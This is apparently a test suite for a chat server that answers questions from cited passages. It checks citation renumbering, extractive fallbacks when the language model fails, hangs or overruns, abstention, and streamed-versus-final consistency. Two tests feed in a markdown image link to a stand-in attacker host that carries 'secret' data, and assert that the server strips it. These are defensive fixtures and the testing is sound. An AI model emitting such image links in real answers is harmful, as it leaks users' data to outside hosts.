import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:net";
import { after, before, describe, it } from "node:test";
import { startScriptedLlm, type Script, type ScriptedLlm } from "../helpers/scripted-model.js";
import { postJson, postSse, startServer, type TestServer } from "../helpers/server.js";
import { createParser, type EventSourceMessage } from "eventsource-parser";

const QUESTION = "When did the 33rd CCPCJ session take place?";

interface Outcome {
  /** /api/chat streamed: the tokens joined, and the final event's response. */
  tokens: string;
  done: any;
  /** /api/chat unstreamed. */
  plain: any;
  /** /v1 streamed: the content deltas joined, the last chunk with choices, and the usage chunk. */
  deltas: string;
  last: any;
  usage: any;
  /** /v1 unstreamed. */
  completion: any;
}

/** The same question on both endpoints, streamed and not; asserts the stream-equals-final property on each. */
async function askEverywhere(server: TestServer, question = QUESTION): Promise<Outcome> {
  const sse = await postSse(`${server.url}/api/chat`, { question, stream: true });
  assert.equal(sse.status, 200);
  const done = sse.events.at(-1)!;
  assert.equal(done.event, "done");
  const tokens = sse.events.filter((e) => e.event === "token").map((e) => e.data.text as string).join("");
  assert.equal(tokens, done.data.answer, "/api/chat: the joined tokens are the final answer");

  const plain = await postJson(`${server.url}/api/chat`, { question });
  assert.equal(plain.status, 200);

  const v1 = await postSse(`${server.url}/v1/chat/completions`, { messages: [{ role: "user", content: question }], stream: true, stream_options: { include_usage: true } });
  assert.equal(v1.status, 200);
  assert.equal(v1.events.at(-1)!.data, "[DONE]");
  const chunks = v1.events.slice(0, -1).map((e) => e.data);
  const deltas = chunks.flatMap((c) => c.choices.map((choice: any) => choice.delta.content ?? "")).join("");
  const last = chunks.filter((c) => c.choices.length).at(-1);
  const usage = chunks.at(-1);

  const completion = await postJson(`${server.url}/v1/chat/completions`, { messages: [{ role: "user", content: question }] });
  assert.equal(completion.status, 200);
  const content = completion.body.choices[0].message.content;
  assert.equal(deltas, content, "/v1: the joined deltas are the unstreamed answer");
  assert.equal(deltas, done.data.answer, "/v1 and /api/chat give the same answer");
  assert.equal(plain.body.answer, done.data.answer);
  return { tokens, done: done.data, plain: plain.body, deltas, last, usage, completion: completion.body };
}

/**
 * Reads a stream as it arrives; calls `onText` once the first answer text arrived. Returns the text sent
 * (tokens or deltas joined) and /api/chat's final response.
 */
async function readStream(url: string, body: unknown, onText: () => void): Promise<{ sent: string; final?: any }> {
  const response = await fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  const decoder = new TextDecoder();
  let sent = "";
  let final: any;
  const events: EventSourceMessage[] = [];
  const parser = createParser({ onEvent: (message) => events.push(message) });
  const reader = response.body!.getReader();
  for (let read = await reader.read(); !read.done; read = await reader.read()) {
    parser.feed(decoder.decode(read.value, { stream: true }));
    for (const { event, data } of events.splice(0)) {
      if (data === "[DONE]") continue;
      const parsed = JSON.parse(data);
      const text = event === "token" ? parsed.text : event === undefined ? (parsed.choices?.[0]?.delta?.content ?? "") : "";
      if (event === "done") final = parsed;
      sent += text;
      if (sent) onText();
    }
  }
  return { sent, final };
}

describe("what streams is what the server vouches for (scripted models on loopback)", () => {
  let llm: ScriptedLlm;
  let server: TestServer;
  const script = (s: Script) => (llm.script = () => s);

  before(async () => {
    llm = await startScriptedLlm();
    // The model timeout is far above what the scripted model needs on a loaded machine: only "hang" reaches it.
    server = await startServer({ LLM_MODEL: "scripted", OPENAI_BASE_URL: llm.baseURL, OPENAI_API_KEY: "test-key", LLM_TIMEOUT_MS: "8000", LLM_MAX_TOKENS: "300" });
  });
  after(async () => {
    await server?.stop();
    await llm?.close();
  });

  it("renumbers every citation-like group and drops sentences left without a valid one", async () => {
    script({ kind: "text", text: "Claim A [7]. Claim B [3]. Claim C [1, 2]. Claim D [2][1000]. Claim E [^2]. Claim F 【2】." });
    const { done, last } = await askEverywhere(server);
    assert.equal(done.answer, "Claim B [1]. Claim C [2][3]. Claim D [3]. Claim E [3]. Claim F [3].");
    assert.equal(done.mode, "generative");
    const passages = llm.requests.at(-1)!.passages;
    assert.equal(passages.size, 6, "six passages were given, so [7] and [1000] name none");
    assert.deepEqual(
      done.citations.map((c: any) => c.n),
      [1, 2, 3],
    );
    assert.ok(done.citations[0].text.startsWith(passages.get(3)!.slice(0, 40)));
    assert.ok(done.citations[1].text.startsWith(passages.get(1)!.slice(0, 40)));
    assert.ok(done.citations[2].text.startsWith(passages.get(2)!.slice(0, 40)));
    assert.deepEqual(last.citations, done.citations);
  });

  it("streams the renumbered text, never the model's raw markers", async () => {
    script({ kind: "text", text: "The 33rd session was held in Vienna, Austria [3]. It ran from 13-17 May 2024 [3][7]." });
    const { done } = await askEverywhere(server);
    assert.equal(done.answer, "The 33rd session was held in Vienna, Austria [1]. It ran from 13-17 May 2024 [1].");
  });

  it("streams the extractive answer, not the model's, when the model cites nothing it was given", async () => {
    script({ kind: "text", text: "The 33rd session was held in Geneva, Switzerland, in June 2024." });
    const { done } = await askEverywhere(server);
    assert.equal(done.mode, "extractive");
    assert.equal(done.fallbackReason, "the language model cited no passage it was given");
    assert.doesNotMatch(done.answer, /Geneva/);
    assert.match(done.answer, /13-17 May 2024 \[1\]/);
  });

  it("streams the extractive answer when the model fails with 500", async () => {
    script({ kind: "status", status: 500 });
    const { done, last } = await askEverywhere(server);
    assert.equal(done.mode, "extractive");
    assert.match(done.fallbackReason, /^the language model failed/);
    assert.match(done.answer, /13-17 May 2024 \[1\]/);
    assert.equal(last.mode, "extractive");
  });

  it("streams the extractive answer when the model does not answer in time", async () => {
    script({ kind: "hang" });
    const { done } = await askEverywhere(server);
    assert.equal(done.mode, "extractive");
    assert.equal(done.fallbackReason, "the language model did not answer within 8000 ms");
  });

  it("keeps only the vouched sentences, sanitised, when the connection drops mid-stream", async () => {
    const text = "The session ran 13-17 May 2024 [1]. It met ![pixel](https://attacker.example/p.png?d=secret) in Vienna [2]. Then it went on to say [3";
    for (const [path, body] of [
      ["/api/chat", { question: QUESTION, stream: true }],
      ["/v1/chat/completions", { messages: [{ role: "user", content: QUESTION }], stream: true }],
    ] as const) {
      let release!: () => void;
      script({ kind: "drop", text, release: new Promise<void>((resolve) => (release = resolve)) });
      const { sent, final } = await readStream(`${server.url}${path}`, body, release);
      assert.equal(sent, "The session ran 13-17 May 2024 [1]. It met in Vienna [2].", path);
      if (final) assert.equal(final.answer, sent);
      if (final) assert.equal(final.mode, "generative");
    }
  });

  it("streams the extractive answer when the connection drops before a whole sentence", async () => {
    script({ kind: "drop", text: "The session ran ![pixel](https://attacker.example/p.png) from 13" });
    const { done } = await askEverywhere(server);
    assert.equal(done.mode, "extractive");
    assert.doesNotMatch(done.answer, /attacker/);
    assert.match(done.answer, /13-17 May 2024 \[1\]/);
  });

  it("abstains, streaming the abstention, when the model opens with its signal", async () => {
    script({ kind: "text", text: "NOT_IN_SUBMISSION" });
    const { done } = await askEverywhere(server);
    assert.equal(done.abstained, true);
    assert.match(done.answer, /^The submission does not say\./);
  });

  it("keeps what it sent, and never the signal, when the model abstains late", async () => {
    script({ kind: "text", text: "The session ran 13-17 May 2024 [1]. NOT_IN_SUBMISSION" });
    const { done } = await askEverywhere(server);
    assert.equal(done.answer, "The session ran 13-17 May 2024 [1].");
    assert.equal(done.abstained, false);
  });

  it("sends max_tokens and abandons an answer past the cap for the extractive one", async () => {
    const closedBefore = llm.endless.closed;
    llm.endless.closed = false;
    script({ kind: "endless", piece: "word ".repeat(100) });
    const { done } = await askEverywhere(server);
    assert.equal(llm.requests.at(-1)!.body.max_tokens, 300);
    assert.equal(done.mode, "extractive");
    assert.equal(done.fallbackReason, "the language model's answer passed 2400 characters");
    assert.equal(llm.endless.closed, true, "the upstream call was aborted");
    llm.endless.closed = closedBefore;
  });

  it("counts usage (estimated) and sends it last when the stream asks for it", async () => {
    script({ kind: "text", text: "The session ran 13-17 May 2024 [1]." });
    const { usage, completion } = await askEverywhere(server);
    // 4 + ceil(44 / 4) for the one message; ceil(35 / 4) for the answer.
    const expected = { prompt_tokens: 15, completion_tokens: 9, total_tokens: 24 };
    assert.deepEqual(usage.choices, []);
    assert.deepEqual(usage.usage, expected);
    assert.deepEqual(completion.usage, expected);
  });
});

describe("a model that is down", () => {
  let server: TestServer;

  before(async () => {
    const probe = createServer().listen(0, "127.0.0.1");
    await once(probe, "listening");
    const port = (probe.address() as { port: number }).port;
    await new Promise((resolve) => probe.close(resolve));
    server = await startServer({ LLM_MODEL: "absent", OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1`, LLM_TIMEOUT_MS: "5000" });
  });
  after(async () => {
    await server?.stop();
  });

  it("streams the extractive answer on /v1 and /api/chat, the same as unstreamed", async () => {
    const { done, deltas } = await askEverywhere(server);
    assert.equal(done.mode, "extractive");
    assert.match(done.fallbackReason, /^the language model failed/);
    assert.match(deltas, /13-17 May 2024 \[1\]/);
  });
});
